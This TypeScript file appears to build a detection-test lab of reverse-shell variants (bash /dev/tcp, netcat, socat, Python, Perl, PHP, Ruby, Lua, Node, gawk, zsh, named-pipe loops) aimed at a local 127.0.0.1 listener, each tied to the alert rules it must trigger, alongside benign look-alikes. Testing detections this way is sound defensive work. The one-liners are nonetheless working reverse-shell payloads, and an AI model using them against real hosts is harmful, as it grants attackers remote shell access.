/**
 * The reverse-shell classes besides bash's /dev/tcp: netcat and socat serving a shell, interpreter
 * one-liners that open a socket, the built-in TCP clients of gawk and zsh, and shells looped
 * through a named pipe and a network tool. Each class has one or more spellings, written the way
 * they circulate, and each spelling is launched in three forms:
 *
 * - bare: `bash -c '<one-liner>'`, the lab standing in for the exploited service (a web RCE runs
 *   the attacker's text through a shell this way). bash given a single command replaces itself
 *   with it, so the payload's parent is the service, as in the real attack; nothing is added to
 *   prevent that.
 * - setsid: `setsid <one-liner>; exit 0` typed at a shell prompt. The `; exit 0` keeps that shell
 *   from exec'ing setsid in place, as it would not at a prompt (see variants.ts).
 * - nohup: `nohup <one-liner> &` typed at a shell prompt; the shell goes on (here: exits) and the
 *   payload runs on as an orphan.
 *
 * A one-liner is either a simple command (an interpreter or a tool and its arguments), which
 * setsid and nohup take as it is, or shell code (a /dev/tcp redirect, a pipeline), which they take
 * as `bash -c '<code>'` or `sh -c '<code>'`.
 *
 * Every payload connects only to 127.0.0.1:<port>, the listener the simulation opened; it answers
 * `exit` and hangs up, so the shell ends and the payload with it (the loops of gawk and lua stop
 * at end of file). Addresses are numeric and netcat runs with -n, so no name is looked up.
 *
 * Markers: interpreter code carries `<comment><marker>` in its own comment syntax, and the shell
 * text it hands to `sh -c` does too, so an alert on that shell ties to the variant through its
 * parent. Tools that take no free text (nc, ncat, socat, busybox) get the marker as a `#` comment
 * at the end of the launcher's line; their alerts reach it through the launcher (process.parent)
 * or the images the process ran before (process.previous).
 *
 * Expectations are kept to what each spelling must raise in every form: the class's own rule,
 * plus the socket-stdio rule when the payload gives a shell a TCP socket as its stdio, or the
 * socket-parent rule when a pty wrapper sits between them. Other rules may fire too. The benign
 * look-alikes (`benign-*`) hold one half of a class's shape (a socket and no shell, a shell and
 * no socket, a port probe) and must raise nothing.
 */
import {
  BUILTIN_TCP_RULE_ID,
  DEV_TCP_RULE_ID,
  FIFO_SHELL_LOOP_RULE_ID,
  INTERPRETER_SOCKET_RULE_ID,
  MKFIFO_NETWORK_RULE_ID,
  NETCAT_EXEC_RULE_ID,
  SOCKET_PARENT_RULE_ID,
  SOCKET_STDIO_RULE_ID,
} from './rule-ids.js';
import type { LabVariant, LaunchTarget, LibraryRequirement } from './variants.js';

export type ShellClass =
  | 'dev-tcp'
  | 'netcat'
  | 'socat'
  | 'python'
  | 'perl'
  | 'php'
  | 'ruby'
  | 'lua'
  | 'node'
  | 'gawk-inet'
  | 'zsh-ztcp'
  | 'fifo';

export const SHELL_CLASSES: readonly ShellClass[] = [
  'dev-tcp', 'netcat', 'socat', 'python', 'perl', 'php', 'ruby', 'lua', 'node', 'gawk-inet', 'zsh-ztcp', 'fifo',
];

export type LaunchForm = 'bare' | 'setsid' | 'nohup';

export const LAUNCH_FORMS: readonly LaunchForm[] = ['bare', 'setsid', 'nohup'];

/** The only address any payload talks to. */
const HOST = '127.0.0.1';

/** What the payload is, to the shell that runs it. */
type OneLiner =
  /** A simple command; `marked` when its own text carries the marker. */
  | { kind: 'command'; text: string; marked: boolean }
  /** Shell code, run by the launcher itself in the bare form and by `<shell> -c` (listed in requires) behind setsid or nohup. */
  | { kind: 'code'; shell: 'bash' | 'sh'; text: string };

interface Spelling {
  name: string;
  shellClass: ShellClass;
  summary: string;
  /** Executables the one-liner runs (the launcher's bash and setsid or nohup are added per form). */
  requires: string[];
  libraries?: LibraryRequirement[];
  /** Rules that must fire in every form; empty for a look-alike, which must raise nothing. */
  mustFire: string[];
  /** Whether it opens a connection to the listener (a look-alike may, e.g. a port probe). */
  connects: boolean;
  /** The forms it is launched in when not all three (another variant already has the others). */
  forms?: readonly LaunchForm[];
  oneLiner(t: LaunchTarget): OneLiner;
}

/** `text` as one shell word: as it is when nothing in it is special to the shell, else single-quoted. */
function shellWord(text: string): string {
  return /^[\w@%+=:,./-]+$/.test(text) ? text : `'${text.replaceAll("'", "'\\''")}'`;
}

const command = (text: string, marked = true): OneLiner => ({ kind: 'command', text, marked });

/** `<program> <option> '<inline code>'`, the code ending in the marker as a comment of its language. */
function inline(program: string, option: string, code: string, comment: string, t: LaunchTarget): OneLiner {
  return command(`${program} ${option} ${shellWord(`${code} ${comment}${t.marker}`)}`);
}

/** A named pipe in the simulation's scratch directory, where /tmp/f would be in the wild. */
const fifoPath = (t: LaunchTarget): string => shellWord(`${t.scratchDir}/f`);

/** The shell text an interpreter hands to `sh -c`: a shell on the socket's descriptor. */
const shellOnFd = (fd: string, t: LaunchTarget): string => `/bin/sh -i <&${fd} >&${fd} 2>&${fd} #${t.marker}`;

const LUA_SOCKET: LibraryRequirement = { name: 'lua-socket', interpreter: 'lua5.1', probe: ['-e', 'require("socket")'] };

const PHP_SHELL_CALLS: Array<[name: string, call: (shell: string) => string]> = [
  ['exec', (s) => `exec("${s}");`],
  ['passthru', (s) => `passthru("${s}");`],
  ['backticks', (s) => `\`${s}\`;`],
  ['popen', (s) => `popen("${s}","r");`],
  ['shell-exec', (s) => `shell_exec("${s}");`],
];

const REVERSE_SHELLS: Spelling[] = [
  {
    // The setsid form is variants.ts's bash-setsid, which the seed rule is about.
    name: 'bash-dev-tcp', shellClass: 'dev-tcp', summary: 'bash -i >& /dev/tcp/… 0>&1', requires: ['bash'],
    mustFire: [DEV_TCP_RULE_ID, SOCKET_STDIO_RULE_ID], connects: true, forms: ['bare', 'nohup'],
    oneLiner: (t) => ({ kind: 'code', shell: 'bash', text: `bash -i >& /dev/tcp/${HOST}/${t.port} 0>&1` }),
  },
  {
    name: 'busybox-nc-e', shellClass: 'netcat', summary: 'busybox nc … -e /bin/sh', requires: ['busybox', 'sh'],
    mustFire: [NETCAT_EXEC_RULE_ID, SOCKET_STDIO_RULE_ID], connects: true,
    oneLiner: (t) => command(`busybox nc ${HOST} ${t.port} -e /bin/sh`, false),
  },
  {
    name: 'nc-traditional-e', shellClass: 'netcat', summary: 'nc.traditional … -e /bin/sh', requires: ['nc.traditional', 'sh'],
    mustFire: [NETCAT_EXEC_RULE_ID, SOCKET_STDIO_RULE_ID], connects: true,
    oneLiner: (t) => command(`nc.traditional -n ${HOST} ${t.port} -e /bin/sh`, false),
  },
  {
    // ncat hands its child pipes and relays them, so the shell's stdio is not the socket.
    name: 'ncat-e', shellClass: 'netcat', summary: 'ncat … -e /bin/sh', requires: ['ncat', 'sh'],
    mustFire: [NETCAT_EXEC_RULE_ID], connects: true,
    oneLiner: (t) => command(`ncat -n ${HOST} ${t.port} -e /bin/sh`, false),
  },
  {
    name: 'ncat-sh-exec', shellClass: 'netcat', summary: "ncat … --sh-exec 'sh -i'", requires: ['ncat', 'sh'],
    mustFire: [NETCAT_EXEC_RULE_ID], connects: true,
    oneLiner: (t) => command(`ncat -n ${HOST} ${t.port} --sh-exec ${shellWord(`sh -i #${t.marker}`)}`),
  },
  {
    // The shell gets a pty; socat holds the socket, and not on its stdio.
    name: 'socat-exec-pty', shellClass: 'socat', summary: "socat exec:'sh -i',pty,… tcp:…", requires: ['socat', 'sh'],
    mustFire: [NETCAT_EXEC_RULE_ID], connects: true,
    oneLiner: (t) => command(`socat exec:'sh -i',pty,stderr,setsid,sigint,sane tcp:${HOST}:${t.port}`, false),
  },
  {
    // SYSTEM: runs `sh -c` on a socketpair with socat, not on the TCP socket.
    name: 'socat-system', shellClass: 'socat', summary: "socat SYSTEM:'sh -i' tcp:…", requires: ['socat', 'sh'],
    mustFire: [NETCAT_EXEC_RULE_ID], connects: true,
    oneLiner: (t) => command(`socat ${shellWord(`SYSTEM:sh -i #${t.marker}`)} tcp:${HOST}:${t.port}`),
  },
  {
    name: 'python3-subprocess', shellClass: 'python', summary: 'python3 -c socket + dup2 + subprocess', requires: ['python3', 'sh'],
    mustFire: [INTERPRETER_SOCKET_RULE_ID, SOCKET_STDIO_RULE_ID], connects: true,
    oneLiner: (t) => inline('python3', '-c',
      `import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("${HOST}",${t.port}));` +
      'os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call(["/bin/sh","-i"])', '#', t),
  },
  {
    // pty.spawn gives the shell a pty: the socket stays on python's own stdio.
    name: 'python3-pty', shellClass: 'python', summary: 'python3 -c socket + dup2 + pty.spawn', requires: ['python3', 'sh'],
    mustFire: [INTERPRETER_SOCKET_RULE_ID, SOCKET_PARENT_RULE_ID], connects: true,
    oneLiner: (t) => inline('python3', '-c',
      `import socket,os,pty;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("${HOST}",${t.port}));` +
      '[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")', '#', t),
  },
  {
    name: 'perl-socket-exec', shellClass: 'perl', summary: 'perl -e socket + open STDIN >&S + exec', requires: ['perl', 'sh'],
    mustFire: [INTERPRETER_SOCKET_RULE_ID, SOCKET_STDIO_RULE_ID], connects: true,
    oneLiner: (t) => inline('perl', '-e',
      `use Socket;$i="${HOST}";$p=${t.port};socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));` +
      'if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};', '#', t),
  },
  // fsockopen's stream is descriptor 3 in a fresh php-cli; the one-liners in circulation count on it.
  ...PHP_SHELL_CALLS.map(([name, call]): Spelling => ({
    name: `php-${name}`, shellClass: 'php', summary: `php -r fsockopen + ${name}`, requires: ['php', 'sh'],
    mustFire: [INTERPRETER_SOCKET_RULE_ID, SOCKET_STDIO_RULE_ID], connects: true,
    oneLiner: (t) => inline('php', '-r', `$sock=fsockopen("${HOST}",${t.port});${call(shellOnFd('3', t))}`, '#', t),
  })),
  {
    name: 'php-proc-open', shellClass: 'php', summary: 'php -r fsockopen + proc_open with the socket as stdio', requires: ['php', 'sh'],
    mustFire: [INTERPRETER_SOCKET_RULE_ID, SOCKET_STDIO_RULE_ID], connects: true,
    oneLiner: (t) => inline('php', '-r',
      `$sock=fsockopen("${HOST}",${t.port});$proc=proc_open("/bin/sh -i #${t.marker}",array(0=>$sock,1=>$sock,2=>$sock),$pipes);`, '#', t),
  },
  {
    name: 'ruby-spawn', shellClass: 'ruby', summary: 'ruby -rsocket -e TCPSocket + spawn with the socket as stdio', requires: ['ruby', 'sh'],
    mustFire: [INTERPRETER_SOCKET_RULE_ID, SOCKET_STDIO_RULE_ID], connects: true,
    oneLiner: (t) => inline('ruby', '-rsocket -e',
      `c=TCPSocket.new("${HOST}",${t.port});Process.wait(spawn("/bin/sh","-i",[:in,:out,:err]=>c))`, '#', t),
  },
  {
    name: 'ruby-exec', shellClass: 'ruby', summary: 'ruby -rsocket -e TCPSocket + exec with the socket as stdio', requires: ['ruby', 'sh'],
    mustFire: [INTERPRETER_SOCKET_RULE_ID, SOCKET_STDIO_RULE_ID], connects: true,
    oneLiner: (t) => inline('ruby', '-rsocket -e', `c=TCPSocket.new("${HOST}",${t.port});exec("/bin/sh","-i",[:in,:out,:err]=>c)`, '#', t),
  },
  {
    // Runs each line it receives through io.popen; stops when the listener hangs up.
    name: 'lua-popen-loop', shellClass: 'lua', summary: 'lua5.1 -e socket tcp + io.popen loop', requires: ['lua5.1', 'sh'],
    libraries: [LUA_SOCKET], mustFire: [INTERPRETER_SOCKET_RULE_ID], connects: true,
    oneLiner: (t) => inline('lua5.1', '-e',
      `local t=require("socket").tcp();t:connect("${HOST}",${t.port});` +
      'while true do local c=t:receive();if not c then break end;local f=io.popen(c,"r");t:send(f:read("*a"));f:close() end', '--', t),
  },
  {
    name: 'lua-execute', shellClass: 'lua', summary: 'lua5.1 -e socket tcp + os.execute on its descriptor', requires: ['lua5.1', 'sh'],
    libraries: [LUA_SOCKET], mustFire: [INTERPRETER_SOCKET_RULE_ID, SOCKET_STDIO_RULE_ID], connects: true,
    oneLiner: (t) => inline('lua5.1', '-e',
      `local t=require("socket").tcp();t:connect("${HOST}",${t.port});local fd=t:getfd();` +
      `os.execute(string.format("${shellOnFd('%d', t)}",fd,fd,fd))`, '--', t),
  },
  {
    // The node running the lab: a node installed by a version manager is not on the system PATH.
    name: 'node-spawn', shellClass: 'node', summary: 'node -e net.connect + child_process.spawn with the socket as stdio', requires: ['sh'],
    mustFire: [INTERPRETER_SOCKET_RULE_ID, SOCKET_STDIO_RULE_ID], connects: true,
    oneLiner: (t) => inline(shellWord(process.execPath), '-e',
      `const s=require("net").connect(${t.port},"${HOST}",()=>{require("child_process").spawn("/bin/sh",["-i"],{stdio:[s,s,s]});s.destroy()})`, '//', t),
  },
  {
    // Runs each line it receives as a coprocess; stops at end of file.
    name: 'gawk-inet', shellClass: 'gawk-inet', summary: 'gawk /inet/tcp/0/… command loop', requires: ['gawk', 'sh'],
    mustFire: [BUILTIN_TCP_RULE_ID], connects: true,
    oneLiner: (t) => command(`gawk ${shellWord(
      `BEGIN{s="/inet/tcp/0/${HOST}/${t.port}";while((s|&getline c)>0){while((c|&getline l)>0)print l|&s;close(c)}} #${t.marker}`)}`),
  },
  {
    name: 'zsh-ztcp', shellClass: 'zsh-ztcp', summary: 'zsh zmodload zsh/net/tcp; ztcp; zsh on $REPLY', requires: ['zsh'],
    mustFire: [BUILTIN_TCP_RULE_ID, SOCKET_STDIO_RULE_ID], connects: true,
    oneLiner: (t) => command(`zsh -c ${shellWord(`zmodload zsh/net/tcp;ztcp ${HOST} ${t.port};zsh >&$REPLY 2>&$REPLY 0>&$REPLY #${t.marker}`)}`),
  },
  {
    name: 'fifo-telnet', shellClass: 'fifo', summary: 'mkfifo F; telnet … 0<F | sh 1>F', requires: ['rm', 'mkfifo', 'telnet', 'sh'],
    mustFire: [MKFIFO_NETWORK_RULE_ID, FIFO_SHELL_LOOP_RULE_ID], connects: true,
    oneLiner: (t) => ({ kind: 'code', shell: 'sh', text: `rm -f ${fifoPath(t)}; mkfifo ${fifoPath(t)}; telnet ${HOST} ${t.port} 0<${fifoPath(t)} | sh 1>${fifoPath(t)}` }),
  },
  {
    name: 'fifo-nc', shellClass: 'fifo', summary: 'mkfifo F; cat F | sh -i 2>&1 | nc … > F', requires: ['mkfifo', 'cat', 'sh', 'nc.traditional'],
    mustFire: [MKFIFO_NETWORK_RULE_ID, FIFO_SHELL_LOOP_RULE_ID], connects: true,
    oneLiner: (t) => ({ kind: 'code', shell: 'sh', text: `mkfifo ${fifoPath(t)}; cat ${fifoPath(t)} | sh -i 2>&1 | nc.traditional -n ${HOST} ${t.port} >${fifoPath(t)}` }),
  },
];

// Their names stay clear of the words the rules look for (sock, exec, spawn, popen, pty…): the
// marker, which holds the name, is part of the command line the rules read.
const LOOK_ALIKES: Spelling[] = [
  {
    name: 'benign-nc-port-probe', shellClass: 'netcat', summary: 'nc.traditional -z: connects and hangs up, runs nothing', requires: ['nc.traditional'],
    mustFire: [], connects: true,
    oneLiner: (t) => command(`nc.traditional -n -z ${HOST} ${t.port}`, false),
  },
  {
    name: 'benign-socat-read', shellClass: 'socat', summary: 'socat reads the listener into /dev/null, runs nothing', requires: ['socat'],
    mustFire: [], connects: true,
    oneLiner: (t) => command(`socat -u tcp:${HOST}:${t.port} open:/dev/null`, false),
  },
  {
    name: 'benign-python3-resolve', shellClass: 'python', summary: 'python3 -c: socket module, resolves a numeric address only', requires: ['python3'],
    mustFire: [], connects: false,
    oneLiner: (t) => inline('python3', '-c', `import socket;print(socket.getaddrinfo("${HOST}",${t.port})[0][4])`, '#', t),
  },
  {
    name: 'benign-perl-inet-aton', shellClass: 'perl', summary: 'perl -MSocket -e: converts an address, no socket opened', requires: ['perl'],
    mustFire: [], connects: false,
    oneLiner: (t) => inline('perl', '-MSocket -e', `print inet_ntoa(inet_aton("${HOST}")),"\\n";`, '#', t),
  },
  {
    name: 'benign-php-shell-only', shellClass: 'php', summary: 'php -r runs a command, no socket', requires: ['php', 'sh'],
    mustFire: [], connects: false,
    oneLiner: (t) => inline('php', '-r', 'echo shell_exec("echo lab");', '#', t),
  },
  {
    name: 'benign-ruby-addrinfo', shellClass: 'ruby', summary: 'ruby -rsocket -e: builds an address, no connection', requires: ['ruby'],
    mustFire: [], connects: false,
    oneLiner: (t) => inline('ruby', '-rsocket -e', `puts Addrinfo.tcp("${HOST}",${t.port}).inspect_sockaddr`, '#', t),
  },
  {
    name: 'benign-lua-library-only', shellClass: 'lua', summary: 'lua5.1 -e loads socket, connects nowhere', requires: ['lua5.1'],
    libraries: [LUA_SOCKET], mustFire: [], connects: false,
    oneLiner: (t) => inline('lua5.1', '-e', 'local socket=require("socket");print(socket._VERSION)', '--', t),
  },
  {
    name: 'benign-node-net', shellClass: 'node', summary: 'node -e uses net, starts nothing', requires: [],
    mustFire: [], connects: false,
    oneLiner: (t) => inline(shellWord(process.execPath), '-e', `console.log(require("net").isIP("${HOST}"))`, '//', t),
  },
  {
    name: 'benign-fifo-local', shellClass: 'fifo', summary: 'mkfifo F; a local reader and writer, no network tool', requires: ['rm', 'mkfifo', 'cat', 'sh'],
    mustFire: [], connects: false,
    oneLiner: (t) => ({ kind: 'code', shell: 'sh', text: `rm -f ${fifoPath(t)}; mkfifo ${fifoPath(t)}; cat ${fifoPath(t)} >/dev/null & echo lab >${fifoPath(t)}; wait` }),
  },
];

/** The launcher's line for `form`: the one-liner, the detacher around it, and the marker where the one-liner lacks it. */
function launcherLine(form: LaunchForm, oneLiner: OneLiner, t: LaunchTarget): string {
  let bare: string;
  let detachable: string;
  let tail = '';
  if (oneLiner.kind === 'code') {
    // Shell code takes the marker as its last comment; behind setsid or nohup a shell runs it.
    bare = `${oneLiner.text} #${t.marker}`;
    detachable = `${oneLiner.shell} -c ${shellWord(bare)}`;
  } else {
    bare = detachable = oneLiner.text;
    // After the whole line: a comment inside it would swallow `; exit 0` or `&`.
    if (!oneLiner.marked) tail = ` #${t.marker}`;
  }
  switch (form) {
    case 'bare':
      return `${bare}${tail}`;
    case 'setsid':
      return `setsid ${detachable}; exit 0${tail}`;
    case 'nohup':
      return `nohup ${detachable} &${tail}`;
    default: {
      const unknown: never = form;
      throw new Error(`unknown launch form ${String(unknown)}`);
    }
  }
}

const FORM_SUMMARY: Record<LaunchForm, string> = {
  bare: "bash -c '<one-liner>' as a web RCE runs it",
  setsid: 'setsid <one-liner> from bash',
  nohup: 'nohup <one-liner> & from bash',
};

function variantOf(spelling: Spelling, form: LaunchForm): LabVariant {
  const launcherTools = form === 'bare' ? ['bash'] : ['bash', form];
  const benign = spelling.mustFire.length === 0;
  return {
    name: `${spelling.name}-${form}`,
    summary: `${spelling.summary}: ${FORM_SUMMARY[form]}`,
    shellClass: spelling.shellClass,
    form,
    expectAlert: !benign,
    expectedRuleId: spelling.mustFire[0] ?? null,
    mustFire: spelling.mustFire,
    mustNotFire: benign ? 'any' : [],
    connects: spelling.connects,
    requires: [...new Set([...launcherTools, ...spelling.requires])],
    ...(spelling.libraries ? { libraries: spelling.libraries } : {}),
    launch: (t) => ({ file: t.tool('bash'), args: ['-c', launcherLine(form, spelling.oneLiner(t), t)] }),
  };
}

/** Every spelling of every class in its launch forms, then the look-alikes. */
export function classVariants(): LabVariant[] {
  return [...REVERSE_SHELLS, ...LOOK_ALIKES].flatMap((spelling) => (spelling.forms ?? LAUNCH_FORMS).map((form) => variantOf(spelling, form)));
}
